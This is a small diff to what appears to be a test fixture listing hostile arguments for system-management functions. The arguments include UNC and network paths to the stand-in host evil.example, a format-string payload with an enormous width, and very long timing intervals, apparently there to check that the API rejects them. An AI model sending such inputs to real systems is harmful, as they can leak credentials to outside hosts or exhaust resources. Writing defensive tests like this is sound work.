@@ -40,6 +40,8 @@ const ARGUMENTS: [fun: string, args: Args][] = [
   ['ps.cpu_percent', { arg: [100_000] }],
   ['ps.cpu_percent', { arg: ['interval=100000'] }],
   ['disk.iostat', { arg: [1000, 1000] }],
+  ['status.diskusage', { arg: ['[{:>9999999999}]'] }],
+  ['service.status', { arg: ['x', 'hunter2'] }],
   ['file.file_exists', { arg: ['\\\\evil.example\\x'] }],
   ['file.lstat', { kwarg: { path: '//evil.example/x' } }],
   ['file.readdir', { arg: ['path=//evil.example/x'] }],
